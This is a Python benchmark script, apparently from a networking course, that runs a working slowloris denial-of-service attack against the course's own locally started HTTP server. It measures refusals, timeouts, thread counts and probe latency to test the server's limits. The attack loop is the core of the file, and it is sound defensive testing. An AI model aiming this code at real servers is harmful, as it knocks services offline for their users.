"""Slowloris against the course's HTTP server (a script, not a test).

    .venv/bin/python bench/bench_http.py [--connections 1000] [--interval 5] [--duration 60]

N connections each start a request and then send one header byte every
--interval seconds, as the slowloris attack does, for --duration seconds.
Meanwhile another client (from 127.0.0.2) asks for /get every second and
times it. Reported:
how many connections the server refused at once (503), how long the others
lasted until their 408, the most threads the server process had (from
/proc), and the /get latencies during the attack.

The server runs in its own process (local_servers.control.start with
ephemeral ports in a temporary state directory), as in the course, with its
default limits. Linux only (/proc).
"""

from __future__ import annotations

import argparse
import http.client
import resource
import socket
import statistics
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from local_servers import control  # noqa: E402


#: The probe's source address: another client than the attacker (127.0.0.1), as the
#: per-address limit sees it. Linux routes all of 127/8 to the loopback interface.
PROBE_ADDRESS = "127.0.0.2"


def threads_of(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("Threads:"):
            return int(line.split()[1])
    return 0


def attack(address, pid: int, connections: int, interval: float, duration: float) -> dict:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, connections + 100)), hard))
    started = time.monotonic()
    open_socks: dict[socket.socket, float] = {}
    refused = ended_408 = other_end = 0
    lifetimes, latencies, peak_threads, probe_statuses = [], [], 0, {}
    for _ in range(connections):
        sock = socket.create_connection(address, timeout=10)
        sock.sendall(b"GET /get HTTP/1.1\r\nHost: x\r\n")
        sock.setblocking(False)
        open_socks[sock] = time.monotonic()
    next_byte = next_probe = time.monotonic()
    while open_socks and time.monotonic() - started < duration:
        now = time.monotonic()
        for sock, opened in list(open_socks.items()):
            try:
                answer = sock.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                answer = b""
            if answer.startswith(b"HTTP/1.1 503"):
                refused += 1
            elif answer.startswith(b"HTTP/1.1 408"):
                ended_408 += 1
                lifetimes.append(now - opened)
            else:
                other_end += 1
            sock.close()
            del open_socks[sock]
        if now >= next_byte:
            for sock in list(open_socks):
                try:
                    sock.send(b"X")
                except OSError:
                    pass
            next_byte = now + interval
        if now >= next_probe:
            peak_threads = max(peak_threads, threads_of(pid))
            t0 = time.monotonic()
            probe = http.client.HTTPConnection(*address, timeout=10, source_address=(PROBE_ADDRESS, 0))
            probe.request("GET", "/get")
            reply = probe.getresponse()
            reply.read()
            probe.close()
            latencies.append((time.monotonic() - t0) * 1000)
            probe_statuses[reply.status] = probe_statuses.get(reply.status, 0) + 1
            next_probe = now + 1.0
        time.sleep(0.05)
    still_open = len(open_socks)
    for sock in open_socks:
        sock.close()
    return {"refused_503": refused, "ended_408": ended_408, "other_end": other_end, "still_open": still_open,
            "lifetime_p50": statistics.median(lifetimes) if lifetimes else None,
            "lifetime_max": max(lifetimes) if lifetimes else None, "peak_threads": peak_threads,
            "probe_p50_ms": statistics.median(latencies), "probe_max_ms": max(latencies), "probe_statuses": probe_statuses}


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--interval", type=float, default=5.0)
    parser.add_argument("--duration", type=float, default=60.0)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        handle = control.start(Path(tmp), ephemeral=True, names=["http"])
        try:
            result = attack(handle.http.address, handle.pid, args.connections, args.interval, args.duration)
        finally:
            control.stop(Path(tmp))
    print(result)
    print(f"\n| Slowloris: {args.connections} connections, a header byte every {args.interval:g} s | Result |")
    print("|---|---|")
    print(f"| refused at once (503) | {result['refused_503']} |")
    lifetime = ("-" if result["lifetime_p50"] is None else
                f"p50 {result['lifetime_p50']:.1f} s, max {result['lifetime_max']:.1f} s")
    print(f"| ended with 408 | {result['ended_408']} ({lifetime}) |")
    print(f"| still open after {args.duration:g} s | {result['still_open']} |")
    print(f"| server threads, peak | {result['peak_threads']} |")
    print(f"| GET /get from 127.0.0.2 meanwhile, once a second | p50 {result['probe_p50_ms']:.1f} ms, "
          f"max {result['probe_max_ms']:.1f} ms, statuses {result['probe_statuses']} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
